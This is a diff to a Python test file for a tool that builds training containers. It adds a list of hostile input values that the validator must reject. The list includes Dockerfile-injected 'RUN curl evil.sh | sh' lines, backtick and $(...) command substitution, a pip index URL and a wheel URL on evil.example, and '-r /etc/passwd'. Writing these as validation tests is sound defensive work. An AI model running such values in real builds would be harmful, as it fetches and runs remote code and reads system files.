@@ -26,6 +26,22 @@ PROJECT, REGION, BUCKET = "test-project", "us-central1", "test-staging"
 REPOSITORY = "us-central1-docker.pkg.dev/test-project/training/trainer"
 # Retries in milliseconds, so a test of a transient failure stays quick.
 FAST_RETRY = "attempts=4,initial=0.01,maximum=0.05,deadline=10"
+# Values that would inject a Dockerfile instruction or a shell command if they reached one: each
+# must be exit 2 naming its field (the CLI and render_dockerfile tests add their own fields).
+HOSTILE_VALUES = [
+    ("base_image", "python:3.11\nRUN curl evil.sh | sh"),
+    ("base_image", "python:3.11 AS x\nRUN id"),
+    ("base_image", "python:`id`"),
+    ("base_image", "python:$(id)"),
+    ("base_image", 'python:3.11"'),
+    ("pip_packages", ["pandas==2.2.3\nRUN curl evil.sh | sh"]),
+    ("pip_packages", ["pandas; `id`"]),
+    ("pip_packages", ["$(curl evil.sh)"]),
+    ("pip_packages", ["--index-url=https://evil.example/simple"]),
+    ("pip_packages", ["-r /etc/passwd"]),
+    ("pip_packages", ["pandas @ https://evil.example/p.whl"]),
+    ("pip_packages", ["pandas'"]),
+]
 
 
 def hadolint_path() -> str:
